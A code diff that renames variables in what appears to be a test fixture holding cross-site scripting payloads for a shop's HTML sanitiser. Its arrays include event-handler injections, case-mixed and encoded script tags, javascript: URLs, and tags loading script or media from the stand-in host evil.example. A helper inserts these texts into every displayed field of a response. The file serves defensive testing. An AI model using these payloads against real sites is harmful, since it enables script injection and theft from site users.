@@ -3,7 +3,7 @@
  * The sanitiser works with lists of allowed names, so one text per kind of attack is enough.
  */
 
-const handlers = [
+const eventHandlers = [
   '<img\nsrc=x\nonerror\n=\npwn()>',
   '<img/src=x/onerror=&#x70;&#x77;&#x6e;()>',
   '<img src=x style="x:x" onerror=pwn() alt="`"//',
@@ -15,7 +15,7 @@ const handlers = [
   '<x-y onfocusin=pwn() tabindex=0 autofocus>x</x-y><slot onslotchange=pwn()>x</slot>',
 ];
 
-const scripts = [
+const hostileScripts = [
   '<ScRiPt>pwn()</sCrIpT>',
   '<script src=//evil.example/x.js></script><script src="data:text/javascript,pwn()"></script>',
   '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
@@ -49,12 +49,12 @@ const hostileAddresses = [
   'https:\\\\evil.example',
 ];
 
-const links = hostileAddresses.map((address) => {
-  const quoted = address.replaceAll('"', '&quot;');
-  return `<a href="${quoted}">x</a><img src="${quoted}">`;
+const hostileLinks = hostileAddresses.map((address) => {
+  const escapedAddress = address.replaceAll('"', '&quot;');
+  return `<a href="${escapedAddress}">x</a><img src="${escapedAddress}">`;
 });
 
-const loaders = [
+const loadingMarkup = [
   '<p action="javascript:pwn()" background="javascript:pwn()" cite="javascript:pwn()">x</p>',
   '<video poster="javascript:pwn()" src="https://evil.example/v.mp4" autoplay loop muted></video>',
   '<video autoplay><source src="data:video/mp4;base64,AA"><track src="https://evil.example/t"></video>',
@@ -127,10 +127,10 @@ const misleadingMarkup = [
 
 /** One post for each hostile text. Every field of the post contains that text. */
 export const hostilePosts = [
-  ...handlers,
-  ...scripts,
-  ...links,
-  ...loaders,
+  ...eventHandlers,
+  ...hostileScripts,
+  ...hostileLinks,
+  ...loadingMarkup,
   ...foreignMarkup,
   ...mutatingMarkup,
   ...misleadingMarkup,
@@ -152,21 +152,21 @@ const hostileText =
  * Returns whether the shop uses a field as a key that no shopper reads. A change of the key would
  * only create an unknown row.
  */
-const isKey = (name: string) =>
+const isKeyField = (name: string) =>
   /(?:Id|_id|Prefix|token|role|userEmail|TypeName|statusCode|createdAt)$/i.test(name);
 
 /** Copies an answer and changes each text that reaches the page. */
 function changeTexts(
   value: unknown,
-  change: (text: string, name: string) => unknown,
+  changeText: (text: string, name: string) => unknown,
   name = '',
 ): unknown {
-  if (Array.isArray(value)) return value.map((row) => changeTexts(row, change, name));
+  if (Array.isArray(value)) return value.map((row) => changeTexts(row, changeText, name));
   if (typeof value === 'object' && value !== null)
     return Object.fromEntries(
-      Object.entries(value).map(([key, field]) => [key, changeTexts(field, change, key)]),
+      Object.entries(value).map(([key, field]) => [key, changeTexts(field, changeText, key)]),
     );
-  return typeof value !== 'string' || isKey(name) ? value : change(value, name);
+  return typeof value !== 'string' || isKeyField(name) ? value : changeText(value, name);
 }
 
 let addressIndex = 0;
